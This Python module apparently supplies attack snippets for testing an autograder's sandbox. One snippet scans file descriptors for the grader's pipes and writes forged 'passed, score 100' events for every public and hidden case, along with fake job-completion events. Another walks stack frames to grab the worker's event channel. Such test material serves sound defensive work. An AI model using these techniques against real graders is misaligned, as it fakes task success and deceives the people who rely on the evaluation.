"""Source snippets that attacks paste into their submissions (plain text: they run in the sandbox).

They find the grader's pipes without relying on how the worker is written: the event pipe is
the write end of a pipe among the open descriptors, the case pipe a read end.
"""
from __future__ import annotations

from assignments.hw3 import ASSIGNMENT

QUESTION_IDS = [q.id for q in ASSIGNMENT.questions]

PIPES = r'''
import fcntl as _fcntl, json as _json, os as _os, stat as _stat

def _pipes():
    """(write ends, read ends) of the pipes this process holds."""
    writers, readers = [], []
    for fd in range(0, 1024):
        try:
            mode = _os.fstat(fd).st_mode
            flags = _fcntl.fcntl(fd, _fcntl.F_GETFL)
        except OSError:
            continue
        if _stat.S_ISFIFO(mode):
            (writers if flags & _os.O_ACCMODE == _os.O_WRONLY else readers).append(fd)
    return writers, readers

def _write_all(fds, data):
    for fd in fds:
        try:
            _os.write(fd, data)
        except OSError:
            pass

QUESTION_IDS = %r

_FORGED = {}

def _forged_lines(jobs=range(0, 300)):
    """Events claiming a pass for every case of every job, and the end of every job."""
    key = (jobs.start, jobs.stop)
    if key not in _FORGED:
        _FORGED[key] = _make_forged_lines(jobs)
    return _FORGED[key]

def _make_forged_lines(jobs):
    zeros = {"shape": [2, 2], "b64": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}
    lines = []
    for job in jobs:
        for qid in QUESTION_IDS:
            for vis in ("public", "hidden"):
                for n in range(17):
                    uid = f"{qid}/{vis}/{n}"
                    lines.append({"ev": "case", "job": job, "uid": uid, "status": "passed", "score": 100})
                    lines.append({"ev": "case", "job": job, "uid": uid, "status": "ok", "value": zeros})
        lines += [{"ev": "loaded", "job": job, "output": "forged"}, {"ev": "done", "job": job, "batch": "public"},
                  {"ev": "done", "job": job, "batch": "hidden"}, {"ev": "exit", "job": job, "status": "forged"},
                  {"ev": "clean", "job": job, "token": ""}, {"ev": "ready"}]
    return "".join(_json.dumps(line) + "\n" for line in lines).encode()
''' % (QUESTION_IDS,)

STACK = r'''
import sys as _sys

def _from_stack(name, default=None):
    """A local variable of the worker's frames above the caller: the event channel (`channel`), the
    job number (`job_id`), the case being called (`case`), its batch (`batch`)... Any submission
    can walk its own stack; this is how it finds the event pipe without scanning descriptors."""
    frame = _sys._getframe(1)
    while frame is not None:
        if name in frame.f_locals and frame.f_globals is not globals():
            return frame.f_locals[name]
        frame = frame.f_back
    return default
'''
